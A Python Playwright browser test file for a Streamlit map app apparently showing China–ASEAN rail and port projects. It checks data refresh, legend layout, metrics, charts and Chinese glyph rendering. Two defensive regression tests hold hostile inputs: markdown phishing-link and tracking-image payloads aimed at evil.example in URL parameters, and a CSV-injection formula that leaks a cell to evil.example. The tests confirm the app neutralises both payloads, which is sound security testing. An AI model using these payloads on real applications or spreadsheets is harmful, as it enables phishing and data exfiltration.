"""Browser scenarios for what a user tripped over (issue 9): data edits, links, legend, CJK text."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from playwright.sync_api import expect

from atlas.catalog import load_catalog
from tests.browser.helpers import TIMEOUT, expect_feature_count, map_frame, open_app, wait_map_drawn
from tests.conftest import feature, write_data

CATALOG = load_catalog()
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "browser"


def test_a_data_edit_shows_in_a_new_session_without_a_restart(page, make_app, data_copy_dir):
    # regression: the caches were keyed on the folder alone (Streamlit skips `_`-named
    # parameters), so a feature removed from a layer stayed on the map until a restart
    server = make_app(data_copy_dir)
    open_app(page, server.url)
    wait_map_drawn(page)
    expect_feature_count(page, len(CATALOG.features))
    path = data_copy_dir / "geo" / "ports.geojson"
    doc = json.loads(path.read_text(encoding="utf-8"))
    removed = doc["features"].pop(0)["properties"]["id"]
    path.write_text(json.dumps(doc), encoding="utf-8")
    open_app(page, server.url)  # a new browser session on the same server
    wait_map_drawn(page)
    expect_feature_count(page, len(CATALOG.features) - 1)
    expect(map_frame(page).locator(f"path.atlas-id-{removed}")).to_have_count(0)


def test_link_values_are_shown_as_text_never_as_links_or_images(page, app, watch):
    # regression: the notices rendered markdown from the URL: a clickable phishing link and an outside image
    url = (
        f"{app.url}/?feature=%5BSession%20expired%20-%20log%20in%20again%5D(https%3A%2F%2Fevil.example%2Flogin)"
        "&country=!%5Bp%5D(https%3A%2F%2Fevil.example%2Fpixel.png)"
    )
    open_app(page, url)
    wait_map_drawn(page)
    sidebar = page.locator('[data-testid="stSidebar"]')
    expect(sidebar).to_contain_text("[Session expired - log in again](https://evil.example/login)")
    expect(sidebar).to_contain_text("![p](https://evil.example/pixel.png)")
    assert sidebar.locator("a[href*='evil.example']").count() == 0
    assert page.locator("img[src*='evil.example']").count() == 0
    assert not [u for u in watch.blocked if "evil.example" in u]  # the browser never asked for the image


def test_legend_starts_closed_on_a_narrow_map_and_opens_on_click(page, app):
    # regression: on a 1400-px window the open legend covered about a fifth of the map
    open_app(page, app.url)
    wait_map_drawn(page)
    frame = map_frame(page)
    legend = frame.locator("details.atlas-legend")
    expect(legend).not_to_have_attribute("open", re.compile(".*"))
    box = legend.bounding_box()
    map_box = frame.locator(".leaflet-container").bounding_box()
    assert box["width"] * box["height"] < 0.02 * map_box["width"] * map_box["height"]
    legend.locator("summary").click()
    expect(legend).to_have_attribute("open", "")
    expect(legend).to_contain_text("Under construction")


def test_headline_under_the_laos_filter_counts_the_lao_share(page, app):
    open_app(page, f"{app.url}/?country=LAO")
    wait_map_drawn(page)
    tile = page.locator('[data-testid="stMetric"]').filter(has_text="Rail km open")
    expect(tile.locator('[data-testid="stMetricValue"]')).to_have_text(
        re.compile(r"≈ 4[0-9]{2} km")
    )  # the Lao share, not the 1,049 km of whole lines
    page.screenshot(path=str(ARTIFACTS / "laos_headline.png"))
    open_app(page, f"{app.url}/progress?country=LAO")
    charts = page.locator('[data-testid="stVegaLiteChart"]')
    expect(charts.first).to_be_visible(timeout=TIMEOUT)
    expect(charts.first).to_contain_text("Laos")
    page.screenshot(path=str(ARTIFACTS / "progress_laos.png"), full_page=True)


def test_progress_chart_axis_is_titled_from_the_catalogue(page, app):
    open_app(page, f"{app.url}/progress")
    chart = page.locator('[data-testid="stVegaLiteChart"]').filter(has_text="Percent complete")
    expect(chart).to_be_visible(timeout=TIMEOUT)
    expect(chart).to_contain_text("as of")
    expect(chart).not_to_contain_text("as_of")
    open_app(page, f"{app.url}/progress?lang=zh")
    chart = page.locator('[data-testid="stVegaLiteChart"]').filter(has_text="完成百分比").first
    expect(chart).to_contain_text("截至", timeout=TIMEOUT)
    chart.scroll_into_view_if_needed()
    page.screenshot(path=str(ARTIFACTS / "progress_chart_zh.png"))


def test_chinese_text_is_drawn_with_real_glyphs(page, app):
    # regression: no CJK font on the test machine, so Chinese showed as empty boxes
    open_app(page, f"{app.url}/?lang=zh")
    wait_map_drawn(page)
    h1 = page.locator("h1").first
    expect(h1).to_have_text("中国—东盟互联互通地图")
    # a missing glyph falls back to one box of the same width for every character; real glyphs differ
    widths = page.evaluate(
        """() => ['中', '国', '铁', '一', '。'].map(ch => {
            const s = document.createElement('span'); s.textContent = ch;
            s.style.font = '32px sans-serif'; document.body.appendChild(s);
            const w = s.getBoundingClientRect().width; s.remove(); return w; })"""
    )
    assert all(w > 20 for w in widths[:4]), widths  # full-width ideographs, not narrow fallbacks
    fonts = page.evaluate("() => document.fonts.check('32px \"Noto Sans CJK SC\"', '中国')")
    assert fonts
    page.screenshot(path=str(ARTIFACTS / "chinese_map.png"))


def test_csv_downloads_neutralise_formulas(page, make_app, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    root = write_data(
        tmp_path / "data", layers={"ports": [feature("evil_port", kind="port", name=evil, coords=((101.5, 19.5),))]}
    )
    server = make_app(root)
    open_app(page, f"{server.url}/projects")
    with page.expect_download() as dl:
        page.get_by_role("button", name="Download CSV").click()
    rows = list(csv.DictReader(io.StringIO(Path(dl.value.path()).read_text(encoding="utf-8"))))
    assert rows[0]["name"] == "'" + evil
    # the tables' own export (which would not neutralise) is switched off
    grid = page.locator('[data-testid="stDataFrame"]')
    grid.hover()
    expect(page.locator('[data-testid="stElementToolbar"] button[aria-label*="Download"]')).to_have_count(0)
